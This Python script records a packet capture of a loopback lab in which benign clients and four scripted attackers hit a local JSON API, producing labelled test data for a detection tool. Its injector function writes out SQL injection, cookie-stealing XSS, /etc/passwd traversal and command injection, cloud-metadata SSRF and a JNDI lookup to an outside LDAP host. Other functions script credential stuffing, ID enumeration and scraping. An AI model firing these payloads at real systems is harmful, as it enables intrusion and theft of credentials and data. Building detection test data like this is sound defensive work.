"""Record the attack-scenario capture: pcaps/attack/attack.pcap (+ .expected.json).

    python pcaps/attack/make_attack.py [--out pcaps/attack/attack.pcap]

A real server (pcaps/lab.py's JSON API) on 127.0.0.1, recorded with lab.record (tcpdump,
needs root).  Every client binds its own loopback source address, so detection can tell
them apart:

* phase 1, the baseline: benign users on 127.0.0.2 .. 127.0.0.7 browse, log in, order;
* a one-second pause: ``baseline_until`` in the sidecar lies inside it;
* phase 2: the same benign users keep browsing while four attackers act, one each:
    127.0.0.8  injection (SQLi, XSS, traversal, command injection, SSRF, JNDI, SSTI)
    127.0.0.9  object-id enumeration of /api/v1/users/{id} with a valid token (BOLA)
    127.0.0.10 credential stuffing on /api/v1/login (many accounts, one success)
    127.0.0.11 scraping: a fast walk over every product page, plus a huge limit=

The sidecar (``attack.pcap.expected.json``) is written from what this script did, never by
running mirrorscope: the roles of the addresses, the kind each attacker must be found
with, the phase boundary and the exchanges as the clients logged them.
"""

from __future__ import annotations

import argparse
import http.client
import json
import random
import socket
import sys
import time
from collections.abc import Iterator
from contextlib import contextmanager
from pathlib import Path
from urllib.parse import quote

HERE = Path(__file__).resolve().parent
sys.path.insert(0, str(HERE.parent))

import lab  # noqa: E402 - pcaps/ is a folder of scripts, not a package

BENIGN = [f"127.0.0.{n}" for n in range(2, 8)]
ATTACKERS = {
    "127.0.0.8": "attack.sqli",
    "127.0.0.9": "attack.bola_enumeration",
    "127.0.0.10": "attack.credential_stuffing",
    "127.0.0.11": "attack.scraping",
}
# Further kinds the injection attacker's requests carry (the test checks these too).
INJECTION_KINDS = ["attack.sqli", "attack.xss", "attack.path_traversal",
                   "attack.command_injection", "attack.ssrf", "attack.jndi_injection"]
BASELINE_SESSIONS = 3  # per benign user in phase 1
LIVE_SESSIONS = 1  # per benign user in phase 2
SCRAPE_PAGES = 260
PAUSE = 1.0


class BoundConnection(lab.LabConnection):
    """A lab connection whose socket is bound to the client's own loopback address."""

    def __init__(self, client: BoundClient, index: int, timeout: float) -> None:
        self.client = client
        self.index = index
        self.http = http.client.HTTPConnection(client.host, client.port, timeout=timeout,
                                               source_address=(client.source, 0))
        self.http.connect()
        self.http.sock.setsockopt(socket.IPPROTO_TCP, socket.TCP_NODELAY, 1)


class BoundClient(lab.LabClient):
    """A lab client that connects from ``source`` (a 127.0.0.0/8 address)."""

    def __init__(self, port: int, source: str, **kwargs: object) -> None:
        if not source.startswith("127."):
            raise ValueError("the attack lab only uses loopback addresses")
        super().__init__(port, **kwargs)  # type: ignore[arg-type]
        self.source = source

    @contextmanager
    def connection(self) -> Iterator[lab.LabConnection]:
        """A keep-alive connection from this client's address."""
        conn = BoundConnection(self, self._next_index, self.timeout)
        self._next_index += 1
        try:
            yield conn
        finally:
            conn.close()


def _user_for(ip: str) -> str:
    return f"user{int(ip.rsplit('.', 1)[1]):03d}"


def benign(port: int, ip: str, rng: random.Random, sessions: int,
           log: list[lab.Exchange]) -> None:
    """A benign user: the lab's browsing session, a few times."""
    client = BoundClient(port, ip, user_agent=f"Mozilla/5.0 lab-browser/{rng.randint(1, 3)}")
    for _ in range(sessions):
        lab.user_session(client, rng, _user_for(ip), first_visit=False)
        client.token = None
    log.extend(client.exchanges)


def injector(port: int, log: list[lab.Exchange]) -> None:
    """Injection attempts across query, JSON body, path and headers."""
    client = BoundClient(port, "127.0.0.8", user_agent="Mozilla/5.0 lab-browser/2")
    with client.connection() as conn:
        client.login(conn, "alice", "wonderland")
        q = quote
        conn.request("GET", "/api/v1/products?limit=10&page=" + q("1' OR '1'='1' -- "))
        conn.request("GET", "/api/v1/products?limit=" + q("10 UNION SELECT username, password "
                                                          "FROM users") + "&page=1")
        conn.request("GET", "/api/v1/users/me?fields=" + q("<script>alert(document.cookie)"
                                                           "</script>"), auth=True)
        conn.request("GET", "/static/..%2f..%2f..%2fetc%2fpasswd")
        conn.request("GET", "/api/v1/products?limit=10&page=1&sort=" + q("price; cat /etc/passwd"))
        conn.request("GET", "/api/v1/products?limit=10&page=1&image_url="
                     + q("http://169.254.169.254/latest/meta-data/iam/"))
        conn.request("GET", "/api/v1/users/me", auth=True,
                     headers={"User-Agent": "${jndi:ldap://198.51.100.7:1389/a}"})
        body = json.dumps({"items": [{"sku": "SKU-000001", "qty": 1}],
                           "note": "{{7*7}}<img src=x onerror=alert(1)>"}).encode()
        conn.request("POST", "/api/v1/orders", body, {"Content-Type": "application/json"},
                     auth=True)
        conn.request("GET", "/api/v1/products?limit=10&page=" + q("1; DROP TABLE products--"))
    log.extend(client.exchanges)


def enumerator(port: int, log: list[lab.Exchange]) -> None:
    """A logged-in user walking every user id (most do not exist: 404)."""
    client = BoundClient(port, "127.0.0.9", user_agent="python-requests/2.31.0")
    with client.connection() as conn:
        client.login(conn, "user009", lab.USERS["user009"])
        for user_id in range(1, 81):
            conn.request("GET", f"/api/v1/users/{user_id}", auth=True)
    log.extend(client.exchanges)


def stuffer(port: int, rng: random.Random, log: list[lab.Exchange]) -> None:
    """Leaked username/password pairs tried against the login endpoint."""
    client = BoundClient(port, "127.0.0.10", user_agent="python-requests/2.31.0")
    names = [f"user{n:03d}" for n in rng.sample(range(1, 41), 25)]
    with client.connection() as conn:
        for name in names:
            client.login(conn, name, f"Summer{rng.randint(2015, 2024)}!")
        client.login(conn, "user033", lab.USERS["user033"])  # one pair works
    log.extend(client.exchanges)


def scraper(port: int, log: list[lab.Exchange]) -> None:
    """A fast walk over the whole catalogue, then a request for everything at once."""
    client = BoundClient(port, "127.0.0.11", user_agent="Go-http-client/1.1")
    gz = {"Accept-Encoding": "gzip"}
    with client.connection() as conn:
        for page in range(1, SCRAPE_PAGES + 1):
            conn.request("GET", f"/api/v1/products?limit=5&page={page}", headers=gz)
        conn.request("GET", "/api/v1/products?limit=100000&page=1", headers=gz)
    log.extend(client.exchanges)


def scenario(port: int, seed: int = 5) -> tuple[list[lab.Exchange], float]:
    """Run both phases; return the client logs and the phase boundary (wall-clock time)."""
    rng = random.Random(seed)
    log: list[lab.Exchange] = []
    for _ in range(BASELINE_SESSIONS):
        for ip in BENIGN:
            benign(port, ip, rng, 1, log)
    time.sleep(PAUSE / 2)
    boundary = time.time()
    time.sleep(PAUSE / 2)
    for ip in BENIGN[:3]:
        benign(port, ip, rng, LIVE_SESSIONS, log)
    injector(port, log)
    enumerator(port, log)
    for ip in BENIGN[3:]:
        benign(port, ip, rng, LIVE_SESSIONS, log)
    stuffer(port, rng, log)
    scraper(port, log)
    return log, boundary


def make(out: Path) -> dict[str, object]:
    """Record the scenario into ``out`` and write its sidecar; return the sidecar."""
    out.parent.mkdir(parents=True, exist_ok=True)
    result: dict[str, object] = {}
    with lab.lab_server() as port:
        def run() -> None:
            log, boundary = scenario(port)
            result["log"] = log
            result["boundary"] = boundary

        rec = lab.record(out, run, port=port)
    if rec.packets_dropped:
        raise SystemExit(f"the kernel dropped {rec.packets_dropped} packets: record again")
    log: list[lab.Exchange] = result["log"]  # type: ignore[assignment]
    sidecar = {
        "description": "benign users (baseline, then live) and four attackers on loopback",
        "server": f"127.0.0.1:{port}",
        "baseline_until": result["boundary"],
        "benign": BENIGN,
        "attackers": ATTACKERS,
        "injection_kinds": INJECTION_KINDS,
        "exchanges": len(log),
        "tool": rec.tool,
    }
    Path(str(out) + ".expected.json").write_text(json.dumps(sidecar, indent=2) + "\n")
    return sidecar


def main(argv: list[str] | None = None) -> int:
    """Command-line entry point."""
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0])
    parser.add_argument("--out", type=Path, default=HERE / "attack.pcap")
    args = parser.parse_args(argv)
    try:
        sidecar = make(args.out)
    except lab.CaptureUnavailable as exc:
        print(f"cannot record: {exc}", file=sys.stderr)
        return 2
    size = args.out.stat().st_size
    print(f"{args.out}: {size} bytes, {sidecar['exchanges']} exchanges")
    if size >= 1 << 20:
        print("warning: the capture is over 1 MiB; reduce the scenario", file=sys.stderr)
        return 1
    return 0


if __name__ == "__main__":
    sys.exit(main())
